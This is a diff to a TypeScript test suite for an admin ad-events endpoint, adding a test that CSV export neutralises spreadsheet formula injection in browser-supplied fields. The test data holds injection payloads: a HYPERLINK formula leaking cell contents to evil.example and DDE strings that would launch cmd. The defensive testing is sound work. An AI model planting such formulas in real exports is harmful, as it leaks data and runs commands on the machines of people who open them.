@@ -1,5 +1,6 @@
+import { adActivityStream } from '@kainga/contracts';
 import { AD_RECORD_COLUMNS, parseRange, replayAds, textEncoder } from '@kainga/projections/ad-records';
-import { appendAdLog } from '@kainga/projections/ad-records/testing';
+import { appendAdLog, click, impression } from '@kainga/projections/ad-records/testing';
 import { Writable } from 'node:stream';
 import { brotliDecompressSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -141,5 +142,33 @@ describe('GET /api/admin/ad-events', () => {
     expect(get.parameters.map((p: { name: string; in: string }) => `${p.in}:${p.name}`).sort()).toEqual(['query:format', 'query:from', 'query:to']);
     expect(Object.keys(get.responses).sort()).toEqual(['400', '401', '403']);
     expect(get.description).toContain('text/csv');
+  });
+});
+
+describe('GET /api/admin/ad-events?format=csv with formulas in the anonymous fields', () => {
+  let t: TestApp;
+  afterAll(() => t?.close());
+
+  it('neutralises a city, suburb, property id or user agent a spreadsheet would run, in CSV only', async () => {
+    t = await startTestApp({ ADMIN_EMAILS: 'boss@example.nz' });
+    const admin = client(t.app);
+    await registerAdmin(t, admin, 'boss@example.nz');
+    // What any browser may send with an impression or a click: none of it is ours.
+    const formulas = { city: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', suburb: '+SUM(1,2)', propertyId: '@SUM(A1:A9)', userAgent: "=cmd|' /C calc'!A0" };
+    await t.stores.eventStore.append(
+      adActivityStream('2026-03-01'),
+      [impression(1, '2026-03-01T09:00:00.000Z', formulas), click(1, '2026-03-01T09:00:01.000Z', { ...formulas, userAgent: '-2+3+cmd|x' })],
+      { expectedRevision: 'no_stream' },
+    );
+
+    const res = await admin.get('/api/admin/ad-events?format=csv');
+    expect(res.statusCode).toBe(200);
+    const [, first, second] = res.body.split('\r\n');
+    const neutralised = `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Open"")","'+SUM(1,2)",,'@SUM(A1:A9),`;
+    expect(first).toContain(`,${neutralised}'=cmd|' /C calc'!A0,`);
+    expect(second).toContain(`,${neutralised}'-2+3+cmd|x,`);
+    // NDJSON is data, not a spreadsheet: it keeps the text as recorded.
+    const ndjson = rowsOf((await admin.get('/api/admin/ad-events')).body);
+    expect(ndjson[0]).toMatchObject(formulas);
   });
 });
